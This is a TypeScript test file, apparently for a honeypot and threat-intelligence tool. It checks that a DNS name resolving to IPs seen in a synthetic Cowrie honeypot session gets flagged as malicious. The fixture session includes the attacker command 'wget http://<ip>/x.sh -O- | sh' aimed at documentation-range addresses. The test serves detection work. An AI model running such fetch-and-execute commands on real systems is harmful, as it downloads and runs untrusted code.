import { appendFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { caltrop, newData } from '../../../test/setup/commands.ts';
import { eventually } from '../../../test/setup/installed.ts';
import { configSchema } from '../../config.ts';
import { readConfig } from '../../kit/config-file.ts';
import { silentLog } from '../../kit/log.ts';
import { openPipeline } from '../../pipeline.ts';
import type { Crossed } from './domains.ts';

const carriers = ['203.0.113.9', '203.0.113.77', '203.0.113.201'];

/** A session in which a decoy is told to fetch from each carrier. */
function orders(): string {
  const head = { src_ip: '192.0.2.7', session: 'aa01', sensor: 'd', protocol: 'ssh' };
  const said = [
    { eventid: 'cowrie.session.connect', src_port: 4, dst_ip: '198.51.100.1', dst_port: 22 },
    { eventid: 'cowrie.login.success', username: 'root', password: 'x' },
    ...carriers.map((ip) => ({ eventid: 'cowrie.command.input', input: `wget http://${ip}/x.sh -O- | sh` })),
    { eventid: 'cowrie.session.closed', duration_ms: 4_000 },
  ];
  const lines = said.map((one, second) =>
    JSON.stringify({
      timestamp: new Date(Date.UTC(2026, 1, 1, 0, 0, second)).toISOString(),
      ...head,
      ...one,
    }),
  );
  return `${lines.join('\n')}\n`;
}

/** One line of Zeek's dns.log. */
function answered(name: string, answers: string[]): string {
  return `${JSON.stringify({
    ...{ ts: Date.now() / 1_000, uid: `C${name}`, proto: 'udp', qtype_name: 'A', rcode_name: 'NOERROR' },
    ...{ 'id.orig_h': '10.1.2.3', 'id.orig_p': 40_000, 'id.resp_h': '10.1.2.53', 'id.resp_p': 53 },
    ...{ query: name, answers, TTLs: answers.map(() => 60) },
  })}\n`;
}

it('tells of a bad name while it is asked for, from a log that a resolver writes on', {
  timeout: 240_000,
}, async () => {
  const made = await newData();
  const log = join(made.folder, 'dns.log');
  writeFileSync(log, '');
  writeFileSync(
    made.config,
    `sensor: {enabled: false}\nintake:\n  enrich: false\n  follow:\n    - {path: ${log}, format: zeek-dns, name: resolver, from: start}\n`,
  );
  const cowrie = join(made.folder, 'cowrie.json');
  writeFileSync(cowrie, orders());
  expect((await caltrop('import', '--format', 'cowrie', cowrie, '--data', made.data)).code).toBe(0);
  const config = readConfig(configSchema, made.config, {});
  const pipeline = await openPipeline({ config, data: made.data, running: true, log: silentLog });
  try {
    const { domains } = pipeline;
    const told: Crossed[] = [];
    domains.onCrossed((crossed) => told.push(crossed));
    appendFileSync(
      log,
      Array.from({ length: 30 }, (_, n) => answered(`www.shop${n}.example`, [`198.51.100.${n}`])).join(''),
    );
    await eventually(
      () => domains.counters.rankings,
      (count) => count > 0,
    );
    await eventually(
      () => domains.counters.answers,
      (count) => count === 30,
    );
    const { rankings } = domains.counters;
    appendFileSync(log, answered('xj4kq9vz2.example', carriers));
    await eventually(
      () => told.length,
      (count) => count > 0,
    );
    expect(told).toHaveLength(1);
    expect(told[0]).toMatchObject({ name: 'xj4kq9vz2.example', class: 'Malicious', listed: false });
    expect(domains.counters).toMatchObject({ answers: 31, rankings, deaths: 0, faults: 0 });
    const shown = (await domains.show('xj4kq9vz2.example'))!;
    expect(shown.history).toEqual([
      { day: domains.today(), class: 'Malicious', score: Math.round(told[0]!.score * 10) / 10 },
    ]);
    expect(shown.askers).toMatchObject({ clients: 0, fewer: true });
  } finally {
    await pipeline.close();
    made.remove();
  }
});
